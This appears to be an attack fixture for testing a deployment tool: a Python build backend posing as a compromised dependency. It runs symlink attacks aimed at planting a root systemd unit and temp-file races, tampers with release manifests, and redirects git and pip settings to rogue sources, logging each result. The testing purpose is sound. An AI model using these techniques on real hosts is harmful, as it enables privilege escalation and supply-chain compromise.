"""The build backend of a dependency that was taken over: it attacks first, then builds an ordinary wheel.

It writes what it tried, and each result, to /tmp/build-hook.json. attack.json beside it names the stories: privileges,
manifest, log, temporary, home; and whether the build fails in the end.
"""

import json
import os
import subprocess
import sys
import zipfile

APPLICATION = "/opt/crypto-robot"
STATE = "/var/lib/crypto-robot-deployer"
HOME = "/home/ec2-user"
UNIT = "[Unit]\nDescription=planted\n[Service]\nExecStart=/bin/touch /root/pwned\n"


def tried(action, *arguments):
    try:
        action(*arguments)
    except OSError as error:
        return error.strerror or str(error)
    return "done"


def output_of(*command):
    done = subprocess.run(command, capture_output=True, text=True, check=False)
    return (done.stdout + done.stderr).strip()


def written(path, text):
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "w") as file:
        file.write(text)


def there_and_back(path):
    os.rename(path, path + ".former")
    os.rename(path + ".former", path)


def privileges(_):
    with open("/proc/self/status") as file:
        status = dict(line.rstrip("\n").split(":\t", 1) for line in file if ":\t" in line)
    found = {name: status[name] for name in ("NoNewPrivs", "CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb", "Groups")}
    found.update(sudo=output_of("sudo", "-n", "id"), setuid=output_of("/usr/local/bin/setuid-id"),
                 home=sorted(os.listdir(os.environ["HOME"])), home_writable=os.access(os.environ["HOME"], os.W_OK))
    return found


def manifest(attack):
    """The manifest of the serving release gets a number that is a command."""
    path = os.path.join(os.path.realpath(APPLICATION + "/current"), "release.json")
    with open(path) as file:
        found = json.load(file)
    for service in found["services"]:
        if service["type"] == "trading_robot":
            service.update(heartbeat_file="data/heartbeat", max_age_seconds=attack["number"])

    def replaced():
        os.unlink(path)
        written(path, json.dumps(found))
    return tried(replaced)


def log(_):
    def replaced():
        os.rename(STATE + "/log", STATE + "/log.former")
        os.mkdir(STATE + "/log")
        os.symlink("/etc/systemd/system/planted.service", STATE + "/log/build.log")
    print(UNIT, flush=True)
    places = [STATE] + [os.path.join(STATE, name) for name in ("history.jsonl", "lock", "releases")]
    places += [os.path.join(APPLICATION, name) for name in (".new", "releases", "certificates", "venvs", "current")]
    found = {place: tried(there_and_back, place) for place in places}
    return dict(found, log=tried(replaced))


def temporary(_):
    """Links at the names to which root used to write, with the ids of future processes."""
    release = max(os.path.join(APPLICATION, "releases", name) for name in os.listdir(APPLICATION + "/releases"))
    made = 0
    for number in range(os.getpid(), os.getpid() + 6000):
        for name in (".deployer-env-base", "release.json"):
            link = "%s/%s.%d.new" % (release, name, number)
            made += tried(os.symlink, "/etc/planted-by-a-link", link) == "done"
    return made


def home(attack):
    """Settings for later steps: another repository, another package index."""
    here = "file://%s/other.git" % HOME
    output_of("git", "-c", "init.defaultBranch=main", "init", "-q", HOME + "/other")
    written(HOME + "/other/main.py", "raise SystemExit('not the owner\\'s commit')\n")
    output_of("git", "-C", HOME + "/other", "add", "-A")
    output_of("git", "-C", HOME + "/other", "-c", "user.name=x", "-c", "user.email=x@x", "commit", "-qm", "Not the owner's")
    output_of("git", "clone", "-q", "--bare", HOME + "/other", HOME + "/other.git")
    with open(os.path.join(os.path.realpath(APPLICATION + "/current"), "release.json")) as file:
        url = json.load(file)["repository_url"]
    instead = '[url "%s"]\n\tinsteadOf = %s\n' % (here, url)
    written(HOME + "/.gitconfig", instead)
    written(HOME + "/.config/pip/pip.conf", "[install]\ntarget = %s/packages\n" % HOME)
    written(HOME + "/.ssh/config", "Host *\n\tProxyCommand /bin/false\n")

    def mirrored():
        for name in os.listdir(APPLICATION + "/mirror"):
            with open("%s/mirror/%s/config" % (APPLICATION, name), "a") as file:
                file.write(instead)
    return {"gitconfig": os.path.exists(HOME + "/.gitconfig"), "mirror": tried(mirrored)}


def build_wheel(folder, config_settings=None, metadata_directory=None):
    with open("attack.json") as file:
        attack = json.load(file)
    found = {name: globals()[name](attack) for name in attack["stories"]}
    written("/tmp/build-hook.json", json.dumps(found))
    if attack["fails"]:
        sys.exit("the build ends here")
    name = "taken_over-%s-py3-none-any.whl" % attack["version"]
    about = "taken_over-%s.dist-info/" % attack["version"]
    with zipfile.ZipFile(os.path.join(folder, name), "w") as wheel:
        wheel.writestr("taken_over.py", "")
        wheel.writestr(about + "METADATA", "Metadata-Version: 2.1\nName: taken-over\nVersion: %s\n" % attack["version"])
        wheel.writestr(about + "WHEEL", "Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n")
        wheel.writestr(about + "RECORD", "")
    return name
